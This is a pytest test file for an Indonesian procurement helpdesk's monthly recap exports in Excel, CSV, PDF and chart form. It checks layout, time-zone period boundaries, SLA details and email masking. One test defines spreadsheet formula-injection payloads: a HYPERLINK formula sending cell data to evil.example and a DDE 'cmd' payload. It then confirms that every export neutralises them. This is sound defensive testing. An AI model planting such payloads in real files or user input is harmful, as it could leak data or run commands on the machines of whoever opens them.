"""The recap files: Excel, CSV, PDF and the chart, from tickets made by the real Workflow."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import re
import struct
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from lpse_helpdesk.domain.model import DomainConfig, SopStep
from lpse_helpdesk.reports import pdf
from lpse_helpdesk.reports.lines import recap_line
from lpse_helpdesk.reports.period import Period, ReportFormat
from lpse_helpdesk.sop.machine import Action
from lpse_helpdesk.storage.db import Database
from lpse_helpdesk.timekeeping.calendar import BusinessCalendar
from lpse_helpdesk.timekeeping.clock import FixedClock
from lpse_helpdesk.workflow.actors import Actor
from lpse_helpdesk.workflow.mail_plan import Addresses, OutboxMailPlanner
from lpse_helpdesk.workflow.tickets import Workflow
from tests.conftest import HELPDESK, LKPP, WIB
from tests.reports_support import (
    LPSE,
    act,
    context,
    delivered,
    export,
    november,
    open_ticket,
    resolve,
    wib,
)

HEADER = [
    "No",
    "Nama",
    "E-mail",
    "Permasalahan",
    "Solusi",
    "Tgl diterima",
    "Tgl Selesai",
    "Keterangan",
]
DETAIL_HEADER = [
    "No. Tiket",
    "Kategori",
    "Prioritas",
    "Langkah SOP",
    "Mulai",
    "Batas waktu",
    "Selesai",
    "Menit kerja",
    "Batas (menit kerja)",
    "Status",
]
NOW = wib(2026, 12, 1, 8, 0)


def _workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def _rows(sheet: Worksheet, first: int) -> list[list[Any]]:
    return [list(row) for row in sheet.iter_rows(min_row=first, values_only=True)]


def _csv(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data[len(codecs.BOM_UTF8) :].decode("utf-8"))))


def _pages(data: bytes) -> int:
    assert data.startswith(b"%PDF-")
    return len(re.findall(rb"/Type /Page\b", data))


def _solved_ticket(db: Database, workflow: Workflow, clock: FixedClock) -> int:
    ticket = open_ticket(db, workflow, clock, wib(2026, 11, 24, 9, 0))
    clock.advance(minutes=3)
    act(db, workflow, ticket, Action.SET_PRIORITY, priority="tinggi")
    clock.advance(minutes=40)
    resolve(db, workflow, clock, ticket, "Silakan gunakan Apendo versi terbaru.")
    return ticket


def test_xlsx_columns_layout_and_dates(
    db: Database, workflow: Workflow, clock: FixedClock, domain: DomainConfig
) -> None:
    _solved_ticket(db, workflow, clock)
    open_ticket(db, workflow, clock, wib(2026, 11, 25, 14, 5), name="Budi", email="budi@cv.id")
    book = _workbook(export(db, ReportFormat.XLSX, context(domain, november(), NOW)))

    assert book.sheetnames == ["Rekap", "Detail SLA"]
    sheet = book["Rekap"]
    assert sheet["A1"].value == "Rekap Penanganan Permasalahan Melalui E-mail"
    assert sheet["A1"].font.b
    assert sheet["A2"].value == LPSE
    assert sheet["A3"].value == "Periode: November 2026 (01/11/2026 s.d. 30/11/2026)"
    assert sheet["A4"].value == "Dibuat: 01/12/2026 08.00 WIB"
    assert [c.value for c in sheet[6]] == HEADER
    assert all(c.font.b for c in sheet[6])
    assert sheet.freeze_panes == "A7"
    assert sheet.auto_filter.ref == "A6:H8"
    assert sheet.print_title_rows == "$6:$6"
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
    assert [sheet.column_dimensions[c].width for c in "DEH"] == [50, 40, 36]
    assert sheet.row_dimensions[7].height >= 3 * 15  # Keterangan has three lines
    assert sheet["A1:H1"] and "A1:H1" in {str(r) for r in sheet.merged_cells.ranges}

    first, second = _rows(sheet, 7)
    assert first[:5] == [
        1,
        "Siti Vendor",
        "siti@vendor.co.id",
        "Tidak bisa unggah dokumen penawaran.",
        "Silakan gunakan Apendo versi terbaru.",
    ]
    # Dates are real dates, in local (WIB) wall-clock time, shown the Indonesian way.
    assert first[5] == dt.datetime(2026, 11, 24, 9, 0)
    assert first[6] == dt.datetime(2026, 11, 24, 9, 43)
    assert sheet["F7"].number_format == 'dd/mm/yyyy hh.mm "WIB"'
    assert sheet["H7"].alignment.wrap_text and sheet["D7"].alignment.vertical == "top"
    assert first[7] == "LPSE-2026-00001\nSelesai\nPrioritas Tinggi"
    assert second[0] == 2 and second[5] == dt.datetime(2026, 11, 25, 14, 5)
    assert second[6] is None
    # Still new at the time of the recap: step 2 is being missed.
    assert second[7] == (
        "LPSE-2026-00002\nBaru\nPrioritas belum ditetapkan\nSLA terlewat: Penetapan prioritas"
    )


def test_xlsx_detail_sla(
    db: Database, workflow: Workflow, clock: FixedClock, domain: DomainConfig
) -> None:
    ticket = open_ticket(db, workflow, clock, wib(2026, 11, 24, 9, 0))
    clock.advance(minutes=8)  # step 2 takes 8 minutes of the 5 allowed
    act(db, workflow, ticket, Action.SET_PRIORITY, priority="menengah")
    clock.advance(minutes=30)
    act(db, workflow, ticket, Action.ESCALATE, text="Galat di server pusat.")
    sheet = _workbook(export(db, ReportFormat.XLSX, context(domain, november(), NOW)))["Detail SLA"]
    assert sheet["A1"].value == f"Detail SLA · {LPSE}"
    assert [c.value for c in sheet[3]] == DETAIL_HEADER
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == "A3:J7"
    rows = _rows(sheet, 4)
    assert [r[3] for r in rows] == [
        "Penetapan prioritas",
        "Analisis",
        "Penyelesaian",
        "Eskalasi & pemberitahuan",
    ]
    assert {(r[0], r[1], r[2]) for r in rows} == {
        ("LPSE-2026-00001", "Gagal unggah dokumen penawaran", "Menengah")
    }
    priority = rows[0]
    assert priority[4] == dt.datetime(2026, 11, 24, 9, 0)
    assert priority[5] == dt.datetime(2026, 11, 24, 9, 5)
    assert priority[6] == dt.datetime(2026, 11, 24, 9, 8)
    assert priority[7:] == [8, 5, "Terlambat"]
    # Waiting for LKPP pauses the LPSE's own clocks (analysis, resolution).
    assert rows[1][7:] == [30, 510, "Dijeda"]
    assert rows[2][7:] == [30, 510, "Dijeda"]  # Menengah: one working day
    # The escalation mail never went out: the clock still runs, long past its 5 minutes.
    escalation = rows[3]
    assert escalation[6] is None and escalation[9] == "Berjalan, lewat batas"
    assert escalation[7] > 5


def test_keterangan_tells_the_facts(
    db: Database, workflow: Workflow, clock: FixedClock, domain: DomainConfig
) -> None:
    escalated = open_ticket(db, workflow, clock, wib(2026, 11, 24, 9, 0))
    clock.advance(minutes=2)
    act(db, workflow, escalated, Action.SET_PRIORITY, priority="tinggi")
    clock.set(wib(2026, 11, 24, 10, 15))
    act(db, workflow, escalated, Action.ESCALATE, text="Mohon bantuan LKPP.")
    delivered(db, workflow, clock, escalated, SopStep.ESCALATE_AND_NOTIFY)

    reopened = open_ticket(db, workflow, clock, wib(2026, 11, 24, 11, 0))
    act(db, workflow, reopened, Action.SET_PRIORITY, priority="rendah")
    resolve(db, workflow, clock, reopened)
    db.run_sync(lambda s: workflow.act(s, reopened, Action.REOPEN, Actor.email("siti@x.id")))

    linked = open_ticket(db, workflow, clock, wib(2026, 11, 26, 8, 0), linked_ticket_id=reopened)
    clock.advance(minutes=20)  # step 2 missed
    act(db, workflow, linked, Action.CLOSE)

    book = _workbook(export(db, ReportFormat.XLSX, context(domain, november(), NOW)))
    rows = _rows(book["Rekap"], 7)
    assert rows[0][7] == (
        "LPSE-2026-00001\nPrioritas Tinggi\nDieskalasi ke LKPP 24/11/2026 10.15 WIB"
    )
    assert rows[0][6] is None  # LKPP has it; not finished
    assert rows[1][7].startswith("LPSE-2026-00002\nDianalisis\nPrioritas Rendah\n")
    assert "Dibuka kembali 1 kali" in rows[1][7]
    assert rows[1][6] is None and rows[1][4] == "Sudah."  # the last solution sent, reopened
    assert rows[2][7] == (
        "LPSE-2026-00003\nDitutup tanpa solusi\nPrioritas belum ditetapkan\n"
        "SLA terlewat: Penetapan prioritas\nTiket terkait LPSE-2026-00002"
    )
    assert rows[2][6] == dt.datetime(2026, 11, 26, 8, 20)  # closed: that is its Tgl Selesai


def test_period_boundaries_in_wib(
    db: Database, workflow: Workflow, clock: FixedClock, domain: DomainConfig
) -> None:
    moments = {
        "before": wib(2026, 10, 31, 23, 59),
        "first": wib(2026, 11, 1, 0, 0),
        "last": wib(2026, 11, 30, 23, 30),
        "after": wib(2026, 12, 1, 0, 0),
    }
    for name, moment in moments.items():
        open_ticket(db, workflow, clock, moment, name=name)
    rows = _csv(export(db, ReportFormat.CSV, context(domain, november(), NOW)))
    assert [(r[1], r[5]) for r in rows[1:]] == [
        ("first", "01/11/2026 00.00 WIB"),
        ("last", "30/11/2026 23.30 WIB"),
    ]
    december = Period(dt.date(2026, 12, 1), dt.date(2026, 12, 31), WIB)
    rows = _csv(export(db, ReportFormat.CSV, context(domain, december, NOW)))
    assert [r[1] for r in rows[1:]] == ["after"]


def test_period_boundaries_in_jayapura(db: Database, domain: DomainConfig) -> None:
    wit = ZoneInfo("Asia/Jayapura")
    clock = FixedClock(dt.datetime(2026, 11, 30, 23, 30, tzinfo=wit))
    calendar = BusinessCalendar(domain.working_hours, wit)
    planner = OutboxMailPlanner(domain, Addresses(helpdesk=HELPDESK, lkpp=LKPP))
    workflow = Workflow(domain, calendar, clock, planner, ticket_prefix="LPSE", timezone=wit)
    open_ticket(db, workflow, clock, dt.datetime(2026, 11, 30, 23, 30, tzinfo=wit), name="akhir")
    # 00:30 WIT on 1 December: 30 November 22:30 in Jakarta, but December in Jayapura.
    open_ticket(db, workflow, clock, dt.datetime(2026, 12, 1, 0, 30, tzinfo=wit), name="awal")
    now = dt.datetime(2026, 12, 1, 8, 0, tzinfo=wit)
    rows = _csv(export(db, ReportFormat.CSV, context(domain, november(wit), now)))
    assert [(r[1], r[5]) for r in rows[1:]] == [("akhir", "30/11/2026 23.30 WIT")]
    december = Period(dt.date(2026, 12, 1), dt.date(2026, 12, 31), wit)
    rows = _csv(export(db, ReportFormat.CSV, context(domain, december, now)))
    assert [(r[1], r[5]) for r in rows[1:]] == [("awal", "01/12/2026 00.30 WIT")]
    sheet = _workbook(export(db, ReportFormat.XLSX, context(domain, december, now)))["Rekap"]
    assert sheet["F7"].value == dt.datetime(2026, 12, 1, 0, 30)
    assert sheet["F7"].number_format == 'dd/mm/yyyy hh.mm "WIT"'


_ATTACKS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "problem": "+cmd|' /C calc'!A0",
    "solution": "-2+3+SUM(A1:A3)",
    "subject": "@SUM(1,1)",
}


def _hostile(db: Database, workflow: Workflow, clock: FixedClock) -> None:
    first = open_ticket(
        db,
        workflow,
        clock,
        wib(2026, 11, 24, 9, 0),
        name=_ATTACKS["name"],
        problem=_ATTACKS["problem"],
    )
    act(db, workflow, first, Action.SET_PRIORITY, priority="tinggi")
    resolve(db, workflow, clock, first, _ATTACKS["solution"])
    # Empty problem text: the subject stands in for it. Tab and CR hide a formula too.
    open_ticket(db, workflow, clock, name="\t=1+1", subject=_ATTACKS["subject"], problem="")
    open_ticket(db, workflow, clock, name="\r=1+1", problem="@x\x00\x07 with control characters")


def test_formula_injection_is_neutralised_in_every_format(
    db: Database, workflow: Workflow, clock: FixedClock, domain: DomainConfig
) -> None:
    _hostile(db, workflow, clock)
    recap = context(domain, november(), NOW)

    sheet = _workbook(export(db, ReportFormat.XLSX, recap))["Rekap"]
    rows = _rows(sheet, 7)
    assert rows[0][1] == "'" + _ATTACKS["name"]
    assert rows[0][3] == "'" + _ATTACKS["problem"]
    assert rows[0][4] == "'" + _ATTACKS["solution"]
    assert rows[1][1] == "'=1+1"  # the tab went with the collapsed whitespace, the ' stays
    assert rows[1][3] == "'" + _ATTACKS["subject"]
    assert rows[2][3] == "'@x with control characters"
    for row in sheet.iter_rows(min_row=7):
        for cell in row:
            assert cell.data_type != "f"

    rows = _csv(export(db, ReportFormat.CSV, recap))
    assert rows[1][1] == "'" + _ATTACKS["name"]
    assert rows[1][3] == "'" + _ATTACKS["problem"]
    assert rows[1][4] == "'" + _ATTACKS["solution"]
    assert rows[2][3] == "'" + _ATTACKS["subject"]
    assert rows[3][3] == "'@x with control characters"
    for row in rows[1:]:
        for value in row:
            assert not value or value[0] not in "=+-@\t\r", value

    # The PDF draws the same lines (its text is font-encoded, so checked through them).
    from sqlalchemy.orm import Session

    from lpse_helpdesk.reports.data import iter_tickets

    with Session(db.engine) as session:
        lines = [
            recap_line(n, row, recap, text_limit=pdf.PDF_TEXT_LIMIT)
            for n, row in enumerate(iter_tickets(session, recap.period), start=1)
        ]
    assert [line.name for line in lines] == ["'" + _ATTACKS["name"], "'=1+1", "'=1+1"]
    assert _pages(export(db, ReportFormat.PDF, recap)) == 1


def test_csv_is_utf8_with_bom_and_keeps_the_full_text(
    db: Database, workflow: Workflow, clock: FixedClock, domain: DomainConfig
) -> None:
    long_text = "Dokumen penawaran gagal diunggah, galat “500”. " * 30  # ~1,400 characters
    open_ticket(db, workflow, clock, name="Ñoman Süryadi", problem=long_text.strip())
    recap = context(domain, november(), NOW)
    data = export(db, ReportFormat.CSV, recap)
    rows = _csv(data)
    assert rows[0] == HEADER
    assert rows[1][1] == "Ñoman Süryadi"
    assert rows[1][3] == long_text.strip()
    assert data.count(b"\r\n") >= 2
    table = _rows(_workbook(export(db, ReportFormat.XLSX, recap))["Rekap"], 7)
    assert len(table[0][3]) == 500 and table[0][3].endswith("…")


def test_masked_addresses(
    db: Database, workflow: Workflow, clock: FixedClock, domain: DomainConfig
) -> None:
    open_ticket(db, workflow, clock, email="siti.rahma@vendor.co.id")
    recap = context(domain, november(), NOW, mask_email=True)
    sheet = _workbook(export(db, ReportFormat.XLSX, recap))["Rekap"]
    assert sheet["C7"].value == "s***@v***.co.id"
    assert sheet["A4"].value.endswith("alamat e-mail disamarkan")
    assert _csv(export(db, ReportFormat.CSV, recap))[1][2] == "s***@v***.co.id"
    assert b"vendor.co.id" not in export(db, ReportFormat.CSV, recap)


def test_pdf_has_pages_and_refuses_too_many(
    db: Database,
    workflow: Workflow,
    clock: FixedClock,
    domain: DomainConfig,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    recap = context(domain, november(), NOW)
    assert _pages(export(db, ReportFormat.PDF, recap)) == 1  # empty: the table says so
    for n in range(40):
        open_ticket(
            db, workflow, clock, wib(2026, 11, 2 + n % 20, 9, n), problem="Lupa sandi. " * 20
        )
    data = export(db, ReportFormat.PDF, recap)
    assert _pages(data) > 2
    assert b"/Title" in data and b"Halaman" not in data  # text is font-encoded, not plain
    monkeypatch.setattr(pdf, "PDF_MAX_TICKETS", 30)
    with pytest.raises(pdf.TooManyTickets) as caught:
        export(db, ReportFormat.PDF, recap)
    assert caught.value.message.startswith("Periode ini berisi 40 tiket, terlalu banyak untuk PDF")


def test_chart_is_a_png(
    db: Database, workflow: Workflow, clock: FixedClock, domain: DomainConfig
) -> None:
    _solved_ticket(db, workflow, clock)
    data = export(db, ReportFormat.CHART, context(domain, november(), NOW))
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    width, height = struct.unpack(">II", data[16:24])
    assert width > 1000 and height > 700


def test_empty_period(db: Database, domain: DomainConfig) -> None:
    recap = context(domain, november(), NOW)
    book = _workbook(export(db, ReportFormat.XLSX, recap))
    assert [c.value for c in book["Rekap"][6]] == HEADER
    assert book["Rekap"].max_row == 6 and book["Rekap"].auto_filter.ref == "A6:H6"
    assert _csv(export(db, ReportFormat.CSV, recap)) == [HEADER]
    assert export(db, ReportFormat.CHART, recap).startswith(b"\x89PNG")
